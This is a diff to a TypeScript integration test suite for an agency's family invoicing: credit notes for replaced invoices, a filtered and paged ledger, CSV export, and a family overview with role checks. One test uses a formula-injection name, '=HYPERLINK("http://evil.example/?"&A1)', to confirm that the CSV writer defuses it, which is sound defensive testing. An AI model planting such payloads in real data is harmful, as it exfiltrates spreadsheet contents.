@@ -18,9 +18,11 @@ type Row = {
   invoiceId: string;
   invoiceReference: string;
   paid: number;
+  owed: number;
   cancelled: boolean;
   creditNoteId: string | null;
   creditNoteReference: string | null;
+  replaced: { invoiceId: string; reference: string; creditNoteId: string | null; creditNoteReference: string | null }[];
 };
 
 const contact = (firstName: string, lastName: string) => ({
@@ -262,24 +264,247 @@ describe('consultations and family invoices (real PostgreSQL, real SMTP on loopb
     });
     expect(changed.consultation.invoiceReference).not.toBe(consultation.invoiceReference);
     const row = await rowOf(consultation.id);
-    expect(row).toMatchObject({ amount: 200, invoiceReference: changed.consultation.invoiceReference });
-    expect(row.creditNoteReference).toMatch(/^CN-OTA\d{5}$/);
-    const note = await pdfOf(row.creditNoteId!);
+    expect(row).toMatchObject({ amount: 200, invoiceReference: changed.consultation.invoiceReference, owed: 200 });
+    // The credit note cancels the invoice the change replaced, not the new one: the row names it
+    // beside the replaced invoice only.
+    expect(row.creditNoteReference).toBeNull();
+    expect(row.replaced).toEqual([
+      {
+        invoiceId: consultation.invoiceId,
+        reference: consultation.invoiceReference,
+        creditNoteId: expect.any(String),
+        creditNoteReference: expect.stringMatching(/^CN-OTA\d{5}$/),
+      },
+    ]);
+    const [replaced] = row.replaced;
+    const note = await pdfOf(replaced!.creditNoteId!);
     expect(note).toContain('CREDIT NOTE');
-    expect(note).toContain(row.creditNoteReference!);
+    expect(note).toContain(replaced!.creditNoteReference!);
     expect(note).toContain(consultation.invoiceReference);
     expect(note).toContain('£175.00');
-    expect(await pdfOf(consultation.invoiceId)).toContain(`cancelled by credit note ${row.creditNoteReference}`);
-    expect(inbox.some((message) => message.raw.includes(row.creditNoteReference!))).toBe(true);
+    expect(await pdfOf(consultation.invoiceId)).toContain(`cancelled by credit note ${replaced!.creditNoteReference}`);
+    expect(inbox.some((message) => message.raw.includes(replaced!.creditNoteReference!))).toBe(true);
 
     await ok('/api/consultations/cancel', { id: consultation.id });
     const cancelled = await rowOf(consultation.id);
-    expect(cancelled.cancelled).toBe(true);
-    expect(cancelled.creditNoteReference).not.toBe(row.creditNoteReference);
+    expect(cancelled).toMatchObject({ cancelled: true, owed: 0, replaced: row.replaced });
+    // Now its own invoice is credited, by a credit note of its own.
+    expect(cancelled.creditNoteReference).toMatch(/^CN-OTA\d{5}$/);
+    expect(cancelled.creditNoteReference).not.toBe(replaced!.creditNoteReference);
+    expect(await pdfOf(cancelled.creditNoteId!)).toContain(changed.consultation.invoiceReference);
     const references = (
       await db.query('select reference, credit_note_reference from read.family_invoices')
     ).rows.flatMap((r) => [r.reference, r.credit_note_reference].filter(Boolean));
     expect(new Set(references).size).toBe(references.length);
+  });
+
+  it('lists a family’s invoices, credit notes and payments in the ledger with what is owed, filtered, totalled and as CSV', async () => {
+    type Entry = {
+      kind: string;
+      id: string;
+      date: string;
+      reference: string;
+      invoiceId: string;
+      clientId: string | null;
+      family: string;
+      billedFor: string;
+      amount: number;
+      state: string;
+      owed: number | null;
+    };
+    // A family whose name a spreadsheet would run as a formula.
+    const formula = '=HYPERLINK("http://evil.example/?"&A1)';
+    const { client } = await ok('/api/clients/contact', { ...contact(formula, 'Ledger'), email: 'ledger@example.com' });
+    const { child } = await ok(`/api/clients/child/${client.id}`, {
+      firstName: 'Lou',
+      lastName: 'Ledger',
+      dob: '2014-02-03',
+    });
+    const consult = async (amount: number) =>
+      (await ok('/api/consultations', { client: client.id, child: child.id, date: '2026-05-04', amount })).consultation;
+    const ledger = async (query = '') => {
+      const response = await get(`/api/family-invoices?client=${client.id}${query}`);
+      expect(response.status).toBe(200);
+      return (await response.json()) as { entries: Entry[]; totals: Json; total: number; nextCursor: string | null };
+    };
+
+    // Part-paid, to the penny.
+    const partPaid = await consult(100);
+    const invoiceDate = (await ledger()).entries.find((entry) => entry.id === partPaid.invoiceId)!.date;
+    // Paid in the month before the invoices' (all dated today).
+    const [year, month] = invoiceDate.split('-').map(Number) as [number, number];
+    const paidIn = month === 1 ? { year: year - 1, month: 12 } : { year, month: month - 1 };
+    const paymentDate = `${paidIn.year}-${String(paidIn.month).padStart(2, '0')}-15`;
+    await ok('/api/family-invoices/payment', { invoiceId: partPaid.invoiceId, date: paymentDate, amount: '40.01' });
+    // Changed after issue: its first invoice is credited, a second one bills it.
+    const superseded = await consult(175);
+    const superseding = (
+      await ok('/api/consultations', {
+        id: superseded.id,
+        client: client.id,
+        child: child.id,
+        date: '2026-05-04',
+        amount: '200.50',
+      })
+    ).consultation;
+    // A workshop booked with the family's address is the family's invoice too.
+    const { event } = await ok('/api/events', {
+      description: 'Ledger day',
+      dateTime: '2099-07-20T10:00',
+      durationMinutes: 60,
+      price: 20,
+      capacity: 10,
+      location: 'Hall',
+    });
+    const booked = await ok('/api/events/register', {
+      eventId: event.id,
+      contact: { ...contact('Any', 'Booker'), email: 'ledger@example.com', phone: '07700 900000' },
+      children: [{ firstName: 'Lou', lastName: 'Ledger', school: 'St Mary', schoolYear: '5', allergies: 'None' }],
+    });
+    const workshop = (
+      await ok('/api/events/confirmInvoice', { registrationIds: [booked.registration.id], discountAmount: 0 })
+    ).invoice as { id: string; reference: string };
+
+    const family = `${formula} Ledger`;
+    // Four invoices, one credit note, one payment.
+    await expect.poll(async () => (await ledger()).total, { timeout: 10_000 }).toBe(6);
+    const { entries, totals, total } = await ledger();
+    const pick = (kind: string, invoiceId: string) =>
+      entries.find((entry) => entry.kind === kind && entry.invoiceId === invoiceId);
+    expect(pick('invoice', partPaid.invoiceId)).toMatchObject({
+      reference: partPaid.invoiceReference,
+      clientId: client.id,
+      family,
+      billedFor: 'consultation',
+      amount: 100,
+      state: 'part-paid',
+      owed: 59.99,
+    });
+    expect(pick('payment', partPaid.invoiceId)).toMatchObject({
+      date: paymentDate,
+      reference: partPaid.invoiceReference,
+      amount: 40.01,
+      state: 'part-paid',
+      owed: null,
+    });
+    expect(pick('invoice', superseded.invoiceId)).toMatchObject({ amount: 175, state: 'credited', owed: 0 });
+    expect(pick('credit note', superseded.invoiceId)).toMatchObject({
+      reference: expect.stringMatching(/^CN-/),
+      amount: 175,
+      state: 'credited',
+    });
+    expect(pick('invoice', superseding.invoiceId)).toMatchObject({ amount: 200.5, state: 'unpaid', owed: 200.5 });
+    expect(pick('credit note', superseding.invoiceId)).toBeUndefined();
+    expect(pick('invoice', workshop.id)).toMatchObject({
+      reference: workshop.reference,
+      billedFor: 'workshops',
+      amount: 20,
+      state: 'unpaid',
+      owed: 20,
+    });
+    expect(totals).toEqual({ invoiced: 495.5, credited: 175, paid: 40.01, owed: 280.49 });
+    // Newest first: the payment, dated a month before the rest, is last.
+    expect(entries.at(-1)?.kind).toBe('payment');
+    expect(total).toBe(entries.length);
+
+    // Filtered by state (every entry of the invoices in it), by month (the entries dated in it).
+    const ids = (answer: { entries: Entry[] }) => answer.entries.map((entry) => `${entry.kind} ${entry.invoiceId}`);
+    expect(ids(await ledger('&state=part-paid'))).toEqual([
+      `invoice ${partPaid.invoiceId}`,
+      `payment ${partPaid.invoiceId}`,
+    ]);
+    const credited = await ledger('&state=credited');
+    expect(ids(credited).sort()).toEqual([`credit note ${superseded.invoiceId}`, `invoice ${superseded.invoiceId}`]);
+    expect(credited.totals).toEqual({ invoiced: 175, credited: 175, paid: 0, owed: 0 });
+    expect((await ledger('&state=unpaid')).totals).toMatchObject({ invoiced: 220.5, owed: 220.5 });
+    expect((await ledger('&state=paid')).entries).toEqual([]);
+    const paymentMonth = await ledger(`&year=${paidIn.year}&month=${paidIn.month}`);
+    expect(ids(paymentMonth)).toEqual([`payment ${partPaid.invoiceId}`]);
+    expect(paymentMonth.totals).toEqual({ invoiced: 0, credited: 0, paid: 40.01, owed: 0 });
+    expect((await ledger(`&year=${year}&month=${month}`)).total).toBe(5);
+    // Paged: two at a time, every entry once, in the same order.
+    const paged: string[] = [];
+    let cursor: string | null = null;
+    do {
+      const page: { entries: Entry[]; nextCursor: string | null } = await ledger(
+        `&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
+      );
+      paged.push(...ids(page));
+      cursor = page.nextCursor;
+    } while (cursor);
+    expect(paged).toEqual(ids({ entries }));
+    // Another family's entries are not this one's; bad filters are refused.
+    expect((await ledger()).entries.every((entry) => entry.clientId === client.id)).toBe(true);
+    expect((await get('/api/family-invoices?state=settled')).status).toBe(400);
+    expect((await get('/api/family-invoices?month=3')).status).toBe(400);
+    expect((await get('/api/family-invoices?cursor=nonsense')).status).toBe(400);
+
+    // The CSV: the filtered entries, the formula defused by the one CSV writer, amounts as values.
+    const csv = await get(`/api/family-invoices?client=${client.id}&state=part-paid&format=csv`);
+    expect(csv.status).toBe(200);
+    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
+    const lines = (await csv.text()).trimEnd().split('\r\n');
+    expect(lines[0]).toBe(
+      '"Date","Kind","Reference","Invoice","Family","For","State","Invoiced","Credited","Paid","Owed"',
+    );
+    expect(lines.slice(1)).toEqual([
+      `"${invoiceDate}","invoice","${partPaid.invoiceReference}","${partPaid.invoiceReference}","'=HYPERLINK(""http://evil.example/?""&A1) Ledger","consultation","part-paid","100","","","59.99"`,
+      `"${paymentDate}","payment","${partPaid.invoiceReference}","${partPaid.invoiceReference}","'=HYPERLINK(""http://evil.example/?""&A1) Ledger","consultation","part-paid","","","40.01",""`,
+    ]);
+
+    // The family's page: what it owes in all, its invoices, its child's lessons and tutor.
+    const { tutor } = await ok('/api/tutors/contact', {
+      contact: contact('Tam', 'Teacher'),
+      tutor: { username: 'tam.teacher', invoicePrefix: 'TAM', startDate: '2025-01-01' },
+    });
+    const { engagement } = await ok('/api/tutors/engagement', {
+      tutorId: tutor.id,
+      studentId: child.id,
+      rate: 40,
+      commissionPct: 25,
+      partnerPct: 10,
+      startDate: '2025-01-01',
+      subjects: ['Maths'],
+    });
+    await ok('/api/lessons/lesson?from=2025-03-03&to=2025-03-09&month=2025-03', {
+      tutorId: tutor.id,
+      lesson: { engagementId: engagement.id, date: '2025-03-04', duration: 1.5 },
+    });
+    const overviewResponse = await get(`/api/clients/${client.id}/overview`);
+    const overviewText = await overviewResponse.text();
+    const overview = JSON.parse(overviewText);
+    expect(overview).toMatchObject({
+      owed: 280.49,
+      invoiceCount: 4,
+      lessons: [{ date: '2025-03-04', childId: child.id, child: 'Lou Ledger', tutor: 'Tam Teacher', duration: 1.5 }],
+      tutors: [
+        { id: tutor.id, name: 'Tam Teacher', children: ['Lou Ledger'], subjects: ['Maths'], since: '2025-01-01' },
+      ],
+    });
+    expect(overview.tutors[0].current).toBe(true);
+    // Never what the lesson earns: no rate, price, commission or share under any name.
+    expect(overviewText).not.toMatch(/rate|commission|partner|earning|"amount"/i);
+    expect(
+      Object.fromEntries(
+        overview.invoices.map((invoice: Json) => [invoice.id, [invoice.state, invoice.paid, invoice.owed]]),
+      ),
+    ).toEqual({
+      [partPaid.invoiceId]: ['part-paid', 40.01, 59.99],
+      [superseded.invoiceId]: ['credited', 0, 0],
+      [superseding.invoiceId]: ['unpaid', 0, 200.5],
+      [workshop.id]: ['unpaid', 0, 20],
+    });
+    expect(overview.invoices.find((invoice: Json) => invoice.id === superseded.invoiceId).creditNote).toMatchObject({
+      reference: pick('credit note', superseded.invoiceId)!.reference,
+    });
+
+    // The office reads it (a partner too, and the documents it links to); a tutor never.
+    expect((await get(`/api/family-invoices?client=${client.id}`, partnerToken)).status).toBe(200);
+    expect((await get(`/api/clients/${client.id}/overview`, partnerToken)).status).toBe(200);
+    expect((await get(`/api/family-invoices/doc/${workshop.id}`, partnerToken)).status).toBe(200);
+    expect((await get(`/api/family-invoices?client=${client.id}`, tutorToken)).status).toBe(403);
+    expect((await get(`/api/clients/${client.id}/overview`, tutorToken)).status).toBe(403);
+    expect((await get(`/api/family-invoices/doc/${workshop.id}`, tutorToken)).status).toBe(403);
   });
 
   it('lets an admin edit the agency’s details, which feed the next invoice, both PDFs and the notice', async () => {
